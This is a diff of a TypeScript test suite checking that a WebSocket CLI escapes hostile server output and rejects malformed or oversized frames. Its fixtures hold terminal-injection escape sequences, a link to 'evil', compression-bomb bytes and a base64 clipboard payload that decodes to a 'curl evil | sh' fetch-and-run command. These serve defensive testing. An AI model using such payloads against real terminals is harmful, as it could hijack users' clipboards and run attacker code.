@@ -16,7 +16,8 @@ import {ndjson} from './connect-scenarios.js'
  */
 
 // OSC 0 (title), CSI 2J (clear screen), OSC 52 (clipboard), OSC 8 (link), C1 CSI, DEL.
-const HOSTILE = 'hi \u001B]0;PWNED\u0007 \u001B[2J \u001B]52;c;Y3VybCBldmlsIHwgc2g=\u0007 \u001B]8;;http://evil/\u001B\\click\u001B]8;;\u001B\\ \u009B2J \u007F'
+const HOSTILE =
+  'hi \u001B]0;PWNED\u0007 \u001B[2J \u001B]52;c;Y3VybCBldmlsIHwgc2g=\u0007 \u001B]8;;http://evil/\u001B\\click\u001B]8;;\u001B\\ \u009B2J \u007F'
 const HOSTILE_SHOWN = String.raw`hi \x1b]0;PWNED\x07 \x1b[2J \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b]8;;http://evil/\x1b\click\x1b]8;;\x1b\ \u009b2J \x7f`
 // Valid JSON may hold DEL and C1 characters as they are, and ESC as the escape \u001b.
 const HOSTILE_JSON = '{"text":"a\u009B2Jb\u007F","esc":"\\u001b]0;PWNED\\u0007","\u009Bkey":1}'
@@ -24,7 +25,10 @@ const HOSTILE_JSON = '{"text":"a\u009B2Jb\u007F","esc":"\\u001b]0;PWNED\\u0007",
 /** What no terminal may receive from the server: the sequences above, raw. */
 function assertNoRawControls(output: string): void {
   for (const sequence of ['\u001B]0;PWNED', '\u001B[2J', '\u001B]52;', '\u001B]8;', '\u009B', '\u007F']) {
-    assert.ok(!output.includes(sequence), `raw ${JSON.stringify(sequence)} reached the terminal:\n${JSON.stringify(output)}`)
+    assert.ok(
+      !output.includes(sequence),
+      `raw ${JSON.stringify(sequence)} reached the terminal:\n${JSON.stringify(output)}`,
+    )
   }
 }
 
@@ -41,8 +45,10 @@ describe('wsapi connect against a hostile server', function () {
     server = undefined
   })
 
-  const run = (args: string[], input?: string) => runCli(['connect', ...args], {cwd: tempDir(), env: {WSAPI_STATE_DIR: tempDir()}, input})
-  const pty = (args: string[]) => new PtySession(['connect', ...args], {cwd: tempDir(), env: {WSAPI_STATE_DIR: tempDir()}})
+  const run = (args: string[], input?: string) =>
+    runCli(['connect', ...args], {cwd: tempDir(), env: {WSAPI_STATE_DIR: tempDir()}, input})
+  const pty = (args: string[]) =>
+    new PtySession(['connect', ...args], {cwd: tempDir(), env: {WSAPI_STATE_DIR: tempDir()}})
 
   it('in a terminal, escape sequences in text, in JSON strings and keys and in the close reason show as visible escapes', async () => {
     const hostile = await use(
@@ -59,7 +65,10 @@ describe('wsapi connect against a hostile server', function () {
       assert.equal(await session.waitForExit(), 1)
       assert.ok(session.output.includes(HOSTILE_SHOWN), session.output)
       assert.ok(session.output.includes(String.raw`\u009b2Jb\x7f`), 'DEL and C1 inside a JSON string')
-      assert.ok(session.output.includes(String.raw`"esc"${args.length > 0 ? ':' : ': '}"\u001b]0;PWNED\u0007"`), 'a JSON escape stays the escape it was')
+      assert.ok(
+        session.output.includes(String.raw`"esc"${args.length > 0 ? ':' : ': '}"\u001b]0;PWNED\u0007"`),
+        'a JSON escape stays the escape it was',
+      )
       assert.ok(session.output.includes(String.raw`4000 "bye \u001b]0;PWNED\u0007\u009b2J"`), 'the close reason')
       assertNoRawControls(session.output)
     }
@@ -80,8 +89,20 @@ describe('wsapi connect against a hostile server', function () {
   })
 
   it('notices on stderr (close reasons, the lines sent back with -v) are escaped in scripts', async () => {
-    const hostile = await use(startServer({}, (socket) => socket.on('message', () => socket.close(4000, 'bye \u001B]0;PWNED\u0007\u009B2J'))))
-    const result = await run([hostile.url, '--send-raw', '-x', 'x\u001B[2J', '--verbose', '--wait', '-1', '--timeout', '10'])
+    const hostile = await use(
+      startServer({}, (socket) => socket.on('message', () => socket.close(4000, 'bye \u001B]0;PWNED\u0007\u009B2J'))),
+    )
+    const result = await run([
+      hostile.url,
+      '--send-raw',
+      '-x',
+      'x\u001B[2J',
+      '--verbose',
+      '--wait',
+      '-1',
+      '--timeout',
+      '10',
+    ])
     assert.equal(result.code, 1)
     assert.match(result.stderr, /Error: The server closed the connection: 4000 "bye \\u001b\]0;PWNED\\u0007\\u009b2J"/)
     assert.match(result.stderr, /> x\\x1b\[2J/)
@@ -105,8 +126,9 @@ describe('wsapi connect against a hostile server', function () {
     assert.match(result.stdout, /\\u009b2J/)
   })
 
-  it('an error frame is only one of API Gateway\'s texts: a broadcast with the same shape is an ordinary message', async () => {
-    const frame = '{"message": "Forbidden by \\u001b]0;PWNED\\u0007", "connectionId":"XDmENcnwIE0CFEQ=", "requestId":"XDmGEE2RoE0FRdQ="}'
+  it("an error frame is only one of API Gateway's texts: a broadcast with the same shape is an ordinary message", async () => {
+    const frame =
+      '{"message": "Forbidden by \\u001b]0;PWNED\\u0007", "connectionId":"XDmENcnwIE0CFEQ=", "requestId":"XDmGEE2RoE0FRdQ="}'
     const hostile = await use(startServer({}, (socket) => socket.send(frame)))
     const result = await run([hostile.url, '--json', '--count', '1', '--timeout', '10'])
     assert.equal(ndjson(result.stdout)[0].error, undefined)
@@ -130,14 +152,19 @@ describe('wsapi connect against a hostile server', function () {
         startServer({}, (socket) => {
           closed = closeCode(socket)
           // FIN + RSV1 + text, 5 bytes of "deflated" payload: what a compression bomb starts with.
-          ;(socket as unknown as {_socket: NodeJS.WritableStream})._socket.write(Buffer.from([0xc1, 0x05, 0xf2, 0x48, 0xcd, 0xc9, 0x01]))
+          ;(socket as unknown as {_socket: NodeJS.WritableStream})._socket.write(
+            Buffer.from([0xc1, 0x05, 0xf2, 0x48, 0xcd, 0xc9, 0x01]),
+          )
         }),
       )
       const result = await run([hostile.url, '--wait', '-1', '--timeout', '10'])
       assert.equal(hostile.requests[0].headers['sec-websocket-extensions'], undefined)
       assert.equal(await closed, 1002)
       assert.equal(result.code, 1)
-      assert.match(result.stderr, /Error: Closed the connection with 1002: the server sent a compressed frame, but no compression was negotiated/)
+      assert.match(
+        result.stderr,
+        /Error: Closed the connection with 1002: the server sent a compressed frame, but no compression was negotiated/,
+      )
     })
 
     it('closes with 1009 on a message over 4 MiB (API Gateway sends at most 128 KB); 1 MiB is fine', async () => {
@@ -153,7 +180,10 @@ describe('wsapi connect against a hostile server', function () {
       assert.equal(await closed, 1009)
       assert.ok(result.stdout === `${'a'.repeat(1024 * 1024)}\n`, `stdout: ${result.stdout.length} characters`)
       assert.equal(result.code, 1)
-      assert.match(result.stderr, /Error: Closed the connection with 1009: the server sent a message over 4 MiB, the most wsapi connect accepts \(API Gateway sends at most 128 KB\)/)
+      assert.match(
+        result.stderr,
+        /Error: Closed the connection with 1009: the server sent a message over 4 MiB, the most wsapi connect accepts \(API Gateway sends at most 128 KB\)/,
+      )
     })
   })
 })
